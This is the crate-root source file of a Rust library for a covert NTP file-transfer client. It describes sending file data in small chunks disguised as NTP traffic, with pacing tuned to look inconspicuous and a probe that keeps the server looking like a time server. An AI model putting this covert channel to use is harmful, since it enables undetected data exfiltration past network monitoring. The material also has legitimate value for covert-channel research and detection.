// Copyright 2026 U.S. Federal Government (in countries where recognized)
// SPDX-License-Identifier: Apache-2.0

//! Covert NTP file-transfer client.
//!
//! The client segments a source stream into 16-byte chunks, drives the
//! Start/Data/End state machine against one transfer at a time, and
//! retransmits on loss. All traffic is paced through a single knob so the
//! datagram cadence can be slowed to whatever a deployment considers
//! inconspicuous.
//!
//! # Architecture
//!
//! A single async task owns the UDP socket. The only suspension points are
//! the socket receive (bounded by the nearest retransmit deadline) and the
//! pacing sleep, which gates every send and dominates all other
//! scheduling.
//!
//! # Examples
//!
//! ```no_run
//! # async fn example() -> Result<(), ntpspy_client::ClientError> {
//! use ntpspy_proto::Magic;
//!
//! let mut client = ntpspy_client::NtpSpyClient::builder()
//!     .server("198.51.100.7:123")
//!     .magic(Magic::new(0xDEAD_BEEF).unwrap())
//!     .build()
//!     .await?;
//!
//! let info = client.query().await?;
//! println!("server speaks covert protocol v{}", info.version);
//!
//! client.transfer_file(std::path::Path::new("notes.txt")).await?;
//! # Ok(())
//! # }
//! ```

#![warn(missing_docs)]

/// Client-side error types and exit-code classification.
pub mod error;

/// Genuine NTP probe used to confirm the peer still looks like a time server.
pub mod probe;

/// Chunk sources: files and in-memory buffers.
pub mod source;

mod client;

pub use self::client::{NtpSpyClient, NtpSpyClientBuilder, ServerInfo};
pub use self::error::ClientError;
pub use self::source::{stdin_name, BufSource, ChunkSource, FileSource};
